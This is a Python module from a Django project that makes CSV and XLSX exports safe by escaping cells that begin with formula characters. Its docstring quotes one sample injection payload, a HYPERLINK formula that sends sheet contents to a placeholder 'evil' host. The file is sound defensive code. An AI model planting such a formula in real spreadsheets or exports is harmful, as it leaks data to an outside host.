"""Every CSV and XLSX the project writes, safe to open in a spreadsheet.

A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a
formula by Excel and LibreOffice (CSV injection, OWASP): a house name such as
``=HYPERLINK("http://evil/?"&A1)`` would leak the sheet when the treasurer opens the export. Such
cells get a leading apostrophe, as OWASP recommends. Numbers stay numbers: a negative amount
(``-3007.5``) is not text and is left alone, in CSV as in XLSX. CSV numbers always use a decimal
point, whatever language the admin is shown in; machine exports are not localised.

django-import-export's own ``IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT`` only strips a leading
``=`` (and turns every cell into text), so its export formats are replaced here, through its
``EXPORT_FORMATS`` setting, by ``SafeCSV``, ``SafeXLSX`` and ``NativeJSON``.
"""

import csv
import datetime as dt
import io
import re
from collections.abc import Callable, Iterable, Sequence
from decimal import Decimal

import tablib
from import_export.formats import base_formats

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)\Z")


def neutralise(value):
    """``'=1+2'`` -> ``"'=1+2"``; text that is only a number (``'-12.5'``) and non-text stay as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.match(value):
        return "'" + value
    return value


def plain_decimal(value: Decimal) -> str:
    """``Decimal('9010.0000000')`` -> ``'9010'``; ``Decimal('3007.5000')`` -> ``'3007.5'``; never an exponent."""
    text = format(value, "f")
    if "." in text:
        text = text.rstrip("0").rstrip(".")
    return "0" if text in ("-0", "") else text


def csv_text(value) -> str:
    """A value as CSV text, independent of the active language: decimal point, ISO dates."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "1" if value else "0"
    if isinstance(value, Decimal):
        return plain_decimal(value)
    if isinstance(value, float):
        return repr(value)
    if isinstance(value, dt.datetime):
        return value.isoformat(sep=" ")
    if isinstance(value, dt.date | dt.time):
        return value.isoformat()
    return str(value)


def csv_cell(value) -> str:
    return neutralise(csv_text(value))


def xlsx_cell(value):
    """Numbers, booleans and naive dates stay typed cells; text is neutralised. openpyxl writes any
    string that starts with ``=`` as a formula, so this is what keeps XLSX exports inert."""
    if isinstance(value, dt.datetime) and value.tzinfo is not None:
        return value.isoformat()  # openpyxl cannot store a time zone
    if value is None or isinstance(value, bool | int | float | Decimal | dt.date | dt.time):
        return value
    return neutralise(str(value))


def write_csv(stream, header: Sequence, rows: Iterable[Sequence]) -> None:
    """Comma-separated, ``\\n`` line ends, every cell through ``csv_cell``."""
    writer = csv.writer(stream, lineterminator="\n")
    writer.writerow([csv_cell(value) for value in header])
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])


def to_csv(header: Sequence, rows: Iterable[Sequence]) -> str:
    buffer = io.StringIO()
    write_csv(buffer, header, rows)
    return buffer.getvalue()


def to_xlsx(header: Sequence, rows: Iterable[Sequence], *, title: str = "Export") -> bytes:
    """One sheet, a header row, every cell through ``xlsx_cell`` (streamed by openpyxl's write-only mode)."""
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title[:31])
    sheet.append([xlsx_cell(value) for value in header])
    for row in rows:
        sheet.append([xlsx_cell(value) for value in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _cleaned(dataset: tablib.Dataset, clean: Callable) -> tablib.Dataset:
    cleaned = tablib.Dataset(headers=[clean(header) for header in dataset.headers or []], title=dataset.title)
    for row in dataset:
        cleaned.append([clean(value) for value in row])
    return cleaned


class SafeCSV(base_formats.CSV):
    """import-export's CSV with every cell through ``csv_cell``."""

    def export_data(self, dataset, **kwargs):
        return super().export_data(_cleaned(dataset, csv_cell), **kwargs)


class SafeXLSX(base_formats.XLSX):
    """import-export's XLSX with every cell through ``xlsx_cell``."""

    def export_data(self, dataset, **kwargs):
        return super().export_data(_cleaned(dataset, xlsx_cell), **kwargs)


class NativeJSON(base_formats.JSON):
    """import-export's JSON, fed native values (decimals as ``"12.5"``, never ``"12,5"``)."""


EXPORT_FORMATS = [SafeCSV, SafeXLSX, NativeJSON]

# The admin's export renders values as text in the user's language (``12,5`` for German) unless
# the format is one of the library's BINARY_FORMATS, which receive native values (Decimal, date):
# it checks ``type(format) in BINARY_FORMATS``, so the formats above join that list, and the CSV
# and JSON writers above turn the native values into language-independent text.
base_formats.BINARY_FORMATS.extend(fmt for fmt in EXPORT_FORMATS if fmt not in base_formats.BINARY_FORMATS)
